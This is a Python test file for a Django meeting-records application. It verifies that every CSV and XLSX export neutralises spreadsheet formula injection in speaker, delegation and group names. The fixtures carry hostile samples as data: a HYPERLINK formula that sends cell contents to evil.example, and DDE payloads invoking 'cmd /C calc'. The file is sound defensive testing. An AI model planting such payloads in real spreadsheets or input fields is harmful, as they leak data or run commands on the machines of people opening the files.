"""No export holds a formula (issue 11, finding 3): a speaker's name or a delegation's name that
starts like a formula (`=`, `+`, `-`, `@`, tab, carriage return) comes out as inert text in
every CSV and XLSX, whichever way it is exported: the record's pages, the admin, `manage.py
export`. Numbers stay numbers. A neutralised list imports again as it was."""

import io
from datetime import timedelta

import openpyxl
import pytest
import tablib
from django.core.management import call_command
from django.urls import reverse
from import_export.formats import base_formats

from agenda.models import FloorRequest, LapAction, LapArea
from agenda.record.resources import RESOURCES
from delegations.imports import import_file
from delegations.models import Delegation, Participation
from delegations.resources.delegations import DelegationResource
from meetings.exports import inert, inert_dataset, restored
from tests.factories import DelegateFactory, FocalPointFactory, UserFactory
from tests.helpers import BASE, hand_in, spoken

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells_of_xlsx(data: bytes) -> list[list]:
    """The cells of the first sheet, as openpyxl reads them (formulas as formulas)."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


def xlsx_cell(data: bytes, text: str):
    """The one cell whose value contains `text`."""
    [found] = [
        cell
        for row in cells_of_xlsx(data)
        for cell in row
        if isinstance(cell.value, str) and text in cell.value
    ]
    return found


def csv_values(data: bytes) -> list[str]:
    dataset = tablib.Dataset().load(data.decode("utf-8"), format="csv")
    return [value for row in [dataset.headers, *dataset] for value in row]


def assert_inert_csv(data: bytes, text: str) -> None:
    assert f"'{text}" in csv_values(data)
    assert text not in csv_values(data)


def assert_inert_xlsx(data: bytes, text: str) -> None:
    cell = xlsx_cell(data, text)
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.value == f"'{text}"


def assert_inert(data: bytes, fmt: str, text: str) -> None:
    if fmt == "csv":
        assert_inert_csv(data, text)
    else:
        assert_inert_xlsx(data, text)


# --- the rule ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, f"'{EVIL}"),
        ("+41 22 917 12 34", "'+41 22 917 12 34"),
        ("-Foo", "'-Foo"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Chile", "Chile"),
        ("O'Brien = 1", "O'Brien = 1"),
        ("", ""),
        # Numbers, and the text of a plain number, are not formulas.
        (-5, -5),
        (-2.5, -2.5),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        ("-1e3", "-1e3"),
        (None, None),
    ],
)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(value, expected):
    assert inert(value) == expected


@pytest.mark.parametrize("value", [EVIL, "-Foo", "@x", "\t=1", "'apostrophe", "-5", "Chile", ""])
def test_restored_undoes_inert(value):
    assert restored(inert(value)) == value


def test_a_negative_number_stays_a_number_in_an_xlsx():
    dataset = inert_dataset(tablib.Dataset([-5, "-Foo", EVIL], headers=["n", "name", "x"]))

    [_header, [number, name, formula]] = cells_of_xlsx(base_formats.XLSX().export_data(dataset))

    assert (number.data_type, number.value) == ("n", -5)
    assert (name.data_type, name.value) == ("s", "'-Foo")
    assert (formula.data_type, formula.value) == ("s", f"'{EVIL}")


# --- the record ----------------------------------------------------------------------------------


@pytest.fixture
def hostile(floor):
    """A delivered entry whose speaker's name is a formula, by a delegation whose name starts
    with @, with a statement; a Lausanne Action Plan area and action named like formulas."""
    floor.d["CHL"].name = AT
    floor.d["CHL"].save()
    entry = spoken(floor.item, floor.d["CHL"], minute=0, seconds=65, speaker=EVIL)
    hand_in(floor, "CHL")
    area = LapArea.objects.create(slug="va", title="-Victims", first_action=1, last_action=2)
    LapAction.objects.create(area=area, number=1, title="+1 survivors")
    return entry


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("what", ["speakers", "statements"])
def test_the_record_pages_export_no_formula(client, floor, hostile, what, fmt):
    response = client.get(reverse("record_export", args=[floor.meeting.slug, what, fmt]))

    assert response.status_code == 200
    assert_inert(response.content, fmt, AT)
    if what == "speakers":
        assert_inert(response.content, fmt, EVIL)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_figures_export_no_formula(client, floor, hostile, fmt):
    client.force_login(floor.secretariat)
    slug = floor.meeting.slug

    statistics = client.get(reverse("record_statistics_export", args=[slug, fmt]))
    lap = client.get(reverse("record_lap_export", args=[slug, "va", fmt]))

    assert_inert(statistics.content, fmt, AT)
    assert_inert(lap.content, fmt, "-Victims")
    assert_inert(lap.content, fmt, "+1 survivors")


def test_numbers_of_the_record_stay_numbers_in_an_xlsx(client, floor, hostile):
    response = client.get(reverse("record_export", args=[floor.meeting.slug, "speakers", "xlsx"]))

    [header, row] = cells_of_xlsx(response.content)
    by_column = {title.value: cell for title, cell in zip(header, row, strict=True)}
    assert (by_column["number"].data_type, by_column["number"].value) == ("n", 1)
    assert (by_column["duration (s)"].data_type, by_column["duration (s)"].value) == ("n", 65)


@pytest.mark.parametrize("name", sorted(RESOURCES))
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_command_exports_the_record_with_no_formula(floor, hostile, tmp_path, name, fmt):
    out = tmp_path / f"{name}.{fmt}"

    call_command("export", fmt, name, "--meeting", "ccm-2025", "-o", str(out), stdout=io.StringIO())

    expected = "-Victims" if name == "lap" else AT
    assert_inert(out.read_bytes(), fmt, expected)


@pytest.fixture
def hostile_groups(floor, groups):
    """A statement on behalf of a group whose name is a formula, and a speaker without a
    delegation whose name and organisation are."""
    groups.eu.name = "+cmd|' /C calc'!A0"
    groups.eu.save()
    groups.panellist.name = EVIL
    groups.panellist.organisation = "-Survivors"
    groups.panellist.save()
    italy = spoken(floor.item, floor.d["ITA"], minute=0, seconds=65)
    FloorRequest.objects.filter(pk=italy.pk).update(on_behalf_of=groups.eu)
    FloorRequest.objects.create(
        item=floor.item,
        guest=groups.panellist,
        status="spoken",
        requested_at=BASE,
        started_at=BASE + timedelta(minutes=5),
        ended_at=BASE + timedelta(minutes=6),
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_groups_and_speakers_without_a_delegation_export_no_formula(
    client, floor, hostile_groups, fmt
):
    client.force_login(floor.secretariat)
    slug = floor.meeting.slug

    speakers = client.get(reverse("record_export", args=[slug, "speakers", fmt]))
    statistics = client.get(reverse("record_statistics_export", args=[slug, fmt]))

    assert_inert(speakers.content, fmt, "+cmd|' /C calc'!A0")
    assert_inert(speakers.content, fmt, EVIL)
    assert_inert(statistics.content, fmt, "+cmd|' /C calc'!A0")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_admin_exports_the_list_of_speakers_with_no_formula(client, floor, hostile, fmt):
    client.force_login(floor.secretariat)

    data = admin_export(client, reverse("admin:agenda_floorrequest_export"), fmt)

    assert_inert(data, fmt, EVIL)
    assert_inert(data, fmt, AT)


def admin_export(client, url: str, file_format: str) -> bytes:
    """Post the admin's export form as the browser does: every column ticked."""
    form = client.get(url).context["form"]
    position = next(
        value for value, label in form.fields["format"].choices if label.lower() == file_format
    )
    columns = {name: "on" for name in form.fields if "resource_" in name}
    response = client.post(url, {"format": position, "resource": "0", **columns})
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'.{file_format}"')
    return response.content


# --- the delegation lists ------------------------------------------------------------------------


@pytest.fixture
def secretariat(client):
    client.force_login(UserFactory(username="secretariat", is_staff=True, is_superuser=True))
    return client


@pytest.fixture
def at_delegation(floor):
    delegation = floor.d["CHL"]
    delegation.name = AT
    delegation.save()
    participation = Participation.objects.get(meeting=floor.meeting, delegation=delegation)
    DelegateFactory(participation=participation, name="-Ana Soto", title="=Minister")
    user = UserFactory(username="focal-evil", first_name="+Evil Name", email="evil@example.org")
    FocalPointFactory(user=user, delegation=delegation)
    return delegation


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("model", ["delegation", "participation", "delegate", "focalpoint"])
def test_the_admin_exports_the_delegation_lists_with_no_formula(secretariat, at_delegation,
                                                                model, fmt):  # fmt: skip
    data = admin_export(secretariat, reverse(f"admin:delegations_{model}_export"), fmt)

    # The lists of delegates and focal points name the delegation by its code only.
    if model == "focalpoint":
        assert_inert(data, fmt, "+Evil Name")
    elif model == "delegate":
        assert_inert(data, fmt, "-Ana Soto")
        assert_inert(data, fmt, "=Minister")
    else:
        assert_inert(data, fmt, AT)


@pytest.mark.parametrize(
    "resource",
    [
        "delegations.resources.delegations.DelegationResource",
        "delegations.Delegation",  # a model by its name: the library's resource, not ours
    ],
)
def test_the_command_exports_any_resource_with_no_formula(at_delegation, resource, capsysbinary):
    call_command("export", "CSV", resource)

    assert_inert_csv(capsysbinary.readouterr().out, AT)


def test_an_exported_delegation_list_imports_again_as_it_was(floor, at_delegation):
    exported = base_formats.CSV().export_data(DelegationResource().export())
    assert f"'{AT}" in exported
    Delegation.objects.filter(pk=at_delegation.pk).update(name="Chile")

    report = import_file("delegations", exported.encode(), file_name="delegations.csv")

    assert report.ok, report
    assert Delegation.objects.get(pk=at_delegation.pk).name == AT
